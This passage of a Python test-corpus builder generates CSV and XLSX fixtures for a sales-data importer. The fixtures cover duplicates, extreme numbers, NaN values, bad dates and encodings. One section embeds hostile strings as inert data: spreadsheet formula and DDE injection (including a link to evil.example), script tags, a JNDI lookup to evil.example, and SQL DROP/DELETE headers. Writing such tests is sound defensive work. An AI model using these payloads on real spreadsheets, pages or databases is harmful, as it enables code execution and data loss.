    return utf8([HEADER, "A,Ann,2024-01-01,10", 'B,"Bob,2024-01-02,20', "C,Cy,2024-01-03,30",
                 "D,Di,2024-01-04,40"])


@entry("duplicate_rows.csv", graded(3, 3, 0, 2, duplicate_rows=1),
       "row 3 repeats row 2 exactly: both are used and counted as one duplicate")
def _():
    return utf8([HEADER, "A,Ann,2024-01-01,10", "A,Ann,2024-01-01,10", "B,Bob,2024-01-02,20"])


@entry("customer_level.csv", graded(3, 3, 0, 3, level="customers"),
       "one row per customer, no dates or order ids: a customer-level sheet")
def _():
    return utf8(["客户编号,客户名称,年销售额,年毛利", "K1,甲,1000,200", "K2,乙,500,80", "K3,丙,200,10"])


@entry("whitespace_ids.csv", graded(3, 3, 0, 1),
       "' A', 'A\u3000' (ideographic space) and 'A' are one customer once stripped")
def _():
    return utf8(["customer_id,revenue", " A,1", "A\u3000,2", "A,3"])


# --------------------------------------------------------------------------------------------
# Read: values
# --------------------------------------------------------------------------------------------

@entry("negative_zero_huge.csv",
       graded(8, 4, 4, 4, rejected_by_reason={"number_too_large": 4}, negative_rows=1,
              totals_revenue=1_000_000_000_050.0),
       "-50, 0, 1e12 (the limit) and 100 are used: 1,000,000,000,000 - 50 + 100 = "
       "1,000,000,000,050; 1,000,000,000,001, 1e300, 29 nines and -1e13 are number_too_large")
def _():
    return utf8(["customer_id,revenue", "A,-50", "B,0", "C,1000000000000", "D,1000000000001",
                 "E,1e300", "F," + "9" * 29, "G,-1e13", "H,100"])


@entry("nan_inf.csv",
       graded(9, 1, 8, 1, rejected_by_reason={"missing_value": 4, "bad_number": 4}),
       "revenue NaN, nan, NULL, #N/A (missing_value); inf, -Infinity, 1e309, Infinity "
       "(bad_number); 12 (used)")
def _():
    return utf8(["customer_id,revenue", "A,NaN", "B,nan", "C,NULL", "D,#N/A", "E,inf",
                 "F,-Infinity", "G,1e309", "H,Infinity", "I,12"])


@entry("dates_extreme.csv",
       graded(9, 3, 6, 3, rejected_by_reason={"bad_date": 6}),
       "used: 1900-01-01, 2100-12-31, 2024-02-29; bad_date: 1899-12-31, 2101-01-01, 2999-12-31, "
       "0001-01-01, 9999-12-31, 2024-02-30")
def _():
    dates = ["1899-12-31", "1900-01-01", "2100-12-31", "2101-01-01", "2999-12-31", "0001-01-01",
             "9999-12-31", "2024-02-30", "2024-02-29"]
    return utf8(["customer_id,order_date,revenue"] + [f"K{i},{d},10" for i, d in enumerate(dates)])


@entry("excel_serial_dates.csv",
       graded(7, 4, 3, 4, rejected_by_reason={"bad_date": 3}),
       "serials in text: 45292, 45292.5, 1 (1900-01-01), 61 used; 60 (1900-02-29), 0 and "
       "2958465 (9999-12-31, after 2100) bad_date")
def _():
    serials = ["45292", "45292.5", "1", "61", "60", "0", "2958465"]
    return utf8(["customer_id,order_date,revenue"] + [f"K{i},{s},10" for i, s in enumerate(serials)])


@entry("text_in_numeric.csv",
       graded(8, 5, 3, 5, rejected_by_reason={"bad_number": 2, "missing_value": 1},
              totals_revenue=1245.5),
       "used: 12元 (12), ¥1,234.50, (45.00) = -45, 12,5 = 12.5, 31.5: 12 + 1234.5 - 45 + 12.5 + "
       "31.5 = 1,245.5; abc and 1.2.3 bad_number; N/A missing_value")
def _():
    return utf8(["customer_id,revenue", "A,abc", "B,12元", 'C,"¥1,234.50"', "D,N/A", "E,1.2.3",
                 "F,(45.00)", 'G,"12,5"', "H,31.5"])


# --------------------------------------------------------------------------------------------
# Read: hostile text in names and headers (data, never code)
# --------------------------------------------------------------------------------------------

INJECTION_NAMES = ["=HYPERLINK(\"http://evil.example\",\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
                   "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "＝1+1"]


@entry("formula_injection.csv", graded(8, 8, 0, 8),
       "customer names that spreadsheets would run as formulas (= + - @ tab CR, DDE, full-width "
       "=), every cell quoted (a bare CR outside quotes would end the line)")
def _():
    rows = [["customer_id", "customer_name", "revenue"]]
    rows += [[f"K{i}", name, str(10 + i)] for i, name in enumerate(INJECTION_NAMES)]
    return csv_bytes(rows, quoting=csv.QUOTE_ALL)


@entry("formula_injection_ids.xlsx", graded(4, 4, 0, 4),
       "formula-like customer ids as text cells: =1+1, +1, -1, @A1")
def _():
    return table_xlsx({"S": [["customer_id", "revenue"], ["=1+1", 1], ["+1", 2], ["-1", 3],
                             ["@A1", 4]]})


@entry("html_script.csv", graded(5, 5, 0, 5),
       "names with <script>, an onerror image, closing tags, template and JNDI strings")
def _():
    names = ["<script>alert(1)</script>", '<img src=x onerror="alert(2)">', "</div></table><h1>x",
             "{{7*7}} ${7*7}", "${jndi:ldap://evil.example/a}"]
    rows = [["customer_id", "customer_name", "revenue"]] + [[f"K{i}", n, "10"] for i, n in enumerate(names)]
    return csv_bytes(rows)


SQL_ID_HEADER = '"; DROP TABLE tx; --'
SQL_VALUE_HEADER = 'a"b'


@entry("sql_headers.csv", graded(3, 3, 0, 2, totals_revenue=60.0),
       "headers '\"; DROP TABLE tx; --', 'a\"b' and \"'; DELETE FROM tx; --\", mapped with --map; "
       "ids A, B, A; revenue 10 + 20 + 30",
       args=("--map", f"customer_id={SQL_ID_HEADER}", "--map", f"revenue={SQL_VALUE_HEADER}"))
def _():
    return csv_bytes([[SQL_ID_HEADER, SQL_VALUE_HEADER, "'; DELETE FROM tx; --"],
                      ["A", "10", "x"], ["B", "20", "y"], ["A", "30", "z"]])


@entry("control_chars.csv", graded(4, 4, 0, 4),
       "names with a zero-width space, a right-to-left override, NBSP and one BEL character")
def _():
    names = ["Ann\u200b", "\u202eevil.exe", "Bob\u00a0Jr", "Cy\x07"]
    return csv_bytes([["customer_id", "customer_name", "revenue"]]
                     + [[f"K{i}", n, "10"] for i, n in enumerate(names)])


@entry("emoji.csv", graded(3, 3, 0, 3), "4-byte UTF-8: emoji and CJK extension B in names and ids")
def _():
    return utf8(["customer_id,customer_name,revenue", "😀,Smile,10", "𠀀,Ext B 𠀁,20", "K3,👨‍👩‍👧 family,30"])


# --------------------------------------------------------------------------------------------

def manifest() -> list[dict]:
    """The manifest rows (what ``manifest.json`` holds)."""
    return [{k: e[k] for k in ("file", "args", "expect", "note")} for e in ENTRIES]


def build(out: Path = CORPUS, only: set[str] | None = None) -> list[dict]:
    """Write the corpus files (and, for a full build, ``manifest.json``) into ``out``."""
    out.mkdir(parents=True, exist_ok=True)
    rows = []
    for e, row in zip(ENTRIES, manifest()):
        if only and e["file"] not in only:
            continue
        data = e["build"]()
        path = out / e["file"]
        if data is not None:
            path.write_bytes(data)
        elif not path.exists():
            raise SystemExit(f"{e['file']}: msoffcrypto-tool is needed to create it")
        rows.append(row)
    if not only:
        (out / MANIFEST.name).write_text(json.dumps(rows, ensure_ascii=False, indent=1) + "\n",
                                         encoding="utf-8")
    return rows


if __name__ == "__main__":
    written = build(CORPUS, set(sys.argv[1:]) or None)
    total = sum((CORPUS / m["file"]).stat().st_size for m in written)
    print(f"{len(written)} files, {total / 1024:.0f} KB in {CORPUS}")
